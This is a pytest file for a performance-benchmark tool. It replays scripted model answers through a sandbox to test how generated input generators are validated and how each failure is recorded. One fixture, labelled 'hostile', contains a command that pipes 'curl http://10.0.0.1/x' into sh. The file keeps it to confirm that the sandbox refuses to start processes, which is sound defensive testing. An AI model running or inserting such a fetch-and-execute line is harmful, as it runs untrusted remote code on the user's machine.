"""SaS input synthesis (evalperf.curate.synthesize) with replayed model answers, in the local sandbox.

Each answer below is what a chat model could write: a good generator (its size clamped, so the
search runs to 2^26), a broken answer, generators that raise, loop too long, allocate too much,
overflow, make inputs over 64 MB, are not deterministic, hand the reference a wrong input, or try
to start a process. Each failure must end the search with a clear recorded reason; the good one
must give a task that curates and validates.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from evalperf.curate.run import SynthesisOptions, curate
from evalperf.curate.synthesize import MAX_EXPONENT, Synthesis, synthesize
from evalperf.evaluate.scheduler import Scheduler
from evalperf.generate.backends import BackendConfig, create_backend
from evalperf.sandbox import create_sandbox
from evalperf.sandbox.base import Limits, Sandbox, SandboxSettings
from evalperf.tasks.builtin import load_builtin_suite, load_task_dir
from evalperf.tasks.model import Task
from tests.conftest import need_valgrind
from tests.test_curate_run import _options, _suite_folder

LIMITS = Limits(wall_s=20.0, cpu_s=20.0, memory_mb=1024)


def fenced(code: str) -> str:
    return f"Here is a generator for large inputs:\n\n```python\n{code}```\n\nIt scales with `scale`."


ANSWERS = {
    "good": fenced(
        "import random\n\n\ndef perf_input_gen(scale):\n    n = min(scale, 3000)\n"
        "    return ([random.randrange(100) for _ in range(n)],)\n"
    ),
    "broken": "I would generate a large list of integers, for example with a list comprehension.",
    "syntax": fenced("def perf_input_gen(scale)\n    return ([1] * scale,)\n"),
    "raises": fenced("def perf_input_gen(scale):\n    return ([1] * scale[0],)\n"),
    "slow": fenced("def perf_input_gen(scale):\n    total = sum(range(scale ** 3))\n    return ([total % 7] * 10,)\n"),
    "memory": fenced("def perf_input_gen(scale):\n    junk = [0] * (scale * 2 ** 16)\n    return ([len(junk) % 7],)\n"),
    "overflow": fenced("def perf_input_gen(scale):\n    return ([int(float(2 ** scale))],)\n"),
    "too-large": fenced("def perf_input_gen(scale):\n    return ([7] * (scale * 8),)\n"),
    "nondeterministic": fenced(
        "import random\n\n\ndef perf_input_gen(scale):\n    rng = random.SystemRandom()\n"
        "    return ([rng.randrange(100) for _ in range(min(scale, 50))],)\n"
    ),
    "wrong-input": fenced("def perf_input_gen(scale):\n    return ('not a list of ints',)\n"),
    "not-a-tuple": fenced("def perf_input_gen(scale):\n    return [1] * scale\n"),
    "hostile": fenced(
        "import subprocess\n\n\ndef perf_input_gen(scale):\n"
        "    subprocess.run(['sh', '-c', 'curl http://10.0.0.1/x | sh'])\n    return ([1] * scale,)\n"
    ),
}


@pytest.fixture(scope="module")
def box() -> Iterator[Sandbox]:
    sandbox = create_sandbox("local", SandboxSettings(workers=2, limits=LIMITS))
    sandbox.start()
    yield sandbox
    sandbox.close()


@pytest.fixture(scope="module")
def task(tmp_path_factory: pytest.TempPathFactory) -> Task:
    return load_builtin_suite(_suite_folder(tmp_path_factory.mktemp("sas"))).tasks[0]


def _replay(folder: Path, name: str) -> Path:
    path = folder / f"{name}.jsonl"
    path.write_text(json.dumps({"task_id": "loop_total", "raw": ANSWERS[name]}) + "\n")
    return path


def _synthesize(task: Task, box: Sandbox, folder: Path, name: str) -> Synthesis:
    backend = create_backend(BackendConfig(kind="replay", model=f"replay:{_replay(folder, name)}"))
    return synthesize(task, backend, f"replayed-{name}", Scheduler(box), LIMITS)


def test_a_good_generator_is_searched_to_the_largest_scale(task: Task, box: Sandbox, tmp_path: Path) -> None:
    record = _synthesize(task, box, tmp_path, "good")
    assert record.reason is None and record.source is not None
    assert record.scale == 2**MAX_EXPONENT
    assert [a.scale for a in record.attempts] == [2**e for e in range(1, MAX_EXPONENT + 1)]
    assert all(a.status == "ok" for a in record.attempts)
    assert record.source.level.scale == 2**MAX_EXPONENT
    assert "def generate(seed, scale)" in record.source.generator
    # the prompt, the answer and the limits are recorded
    data = record.to_json()
    assert data["messages"][1]["role"] == "user" and "perf_input_gen" in data["messages"][1]["content"]
    assert data["raw"] == ANSWERS["good"] and data["limits"]["wall_s"] == LIMITS.wall_s


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("broken", "the answer has no usable perf_input_gen"),
        ("syntax", "the answer has no usable perf_input_gen"),
        ("raises", "no valid input at scale 2: failed"),
        ("wrong-input", "no valid input at scale 2: failed"),
        ("not-a-tuple", "perf_input_gen must return a tuple"),
        ("hostile", "starting processes is not allowed"),
        ("nondeterministic", "not deterministic"),
    ],
)
def test_a_failing_answer_is_recorded_with_its_reason(
    task: Task, box: Sandbox, tmp_path: Path, name: str, reason: str
) -> None:
    record = _synthesize(task, box, tmp_path, name)
    assert record.source is None
    assert record.reason is not None and reason in record.reason, record.reason


@pytest.mark.parametrize(
    ("name", "expected"),
    [("slow", "timeout"), ("memory", "memory"), ("overflow", "overflow"), ("too-large", "too-large")],
)
def test_the_search_stops_at_a_limit_and_keeps_the_largest_valid_scale(
    task: Task, box: Sandbox, tmp_path: Path, name: str, expected: str
) -> None:
    record = _synthesize(task, box, tmp_path, name)
    statuses = [a.status for a in record.attempts]
    stop = record.attempts[statuses.index(next(s for s in statuses if s != "ok"))]
    assert stop.status == expected, record.to_json()["attempts"]
    # the largest valid scale below the stop is kept (a smaller one if making it again hit a limit)
    assert record.source is not None and record.scale is not None and record.scale < stop.scale
    assert record.attempts[statuses.index(stop.status) - 1].status == "ok"
    if name == "overflow":  # float(2 ** 1024) overflows, not before: the stop is exact
        assert stop.scale == 2**10 and record.scale == 2**9
    if name == "too-large":  # 2^22 * 8 sevens pickle to just over 64 MB
        assert stop.scale == 2**22


def test_curation_with_a_synthesized_input_gives_a_validated_task(tmp_path: Path) -> None:
    need_valgrind()
    suite = load_builtin_suite(_suite_folder(tmp_path))
    recording = _replay(tmp_path, "good")
    synthesis = SynthesisOptions(BackendConfig(kind="replay", model=f"replay:{recording}"), "replayed-good")
    report = curate(suite, _options(tmp_path, "out", synthesis=synthesis))
    [record] = report.tasks
    assert record.status == "curated", record.reasons
    written = load_task_dir(tmp_path / "out" / "loop_total", "curated")
    assert [(lv.seed, lv.scale) for lv in written.levels] == [(0, 2**MAX_EXPONENT)]
    assert written.extra["curation"]["stress"]["origin"] == "synthesized by replayed-good (SaS)"
    saved = json.loads((tmp_path / "out" / "curation.json").read_text())["tasks"]["loop_total"]
    assert saved["synthesis"]["scale"] == 2**MAX_EXPONENT and saved["synthesis"]["raw"] == ANSWERS["good"]


def test_a_task_whose_synthesis_fails_is_dropped_with_the_reason(tmp_path: Path) -> None:
    need_valgrind()
    suite = load_builtin_suite(_suite_folder(tmp_path))
    recording = _replay(tmp_path, "broken")
    synthesis = SynthesisOptions(BackendConfig(kind="replay", model=f"replay:{recording}"), "replayed-broken")
    report = curate(suite, _options(tmp_path, "out", synthesis=synthesis, validate=False))
    [record] = report.tasks
    assert record.status == "dropped"
    assert record.reasons[0].startswith("input synthesis: the answer has no usable perf_input_gen")
    assert not (tmp_path / "out" / "loop_total").exists()
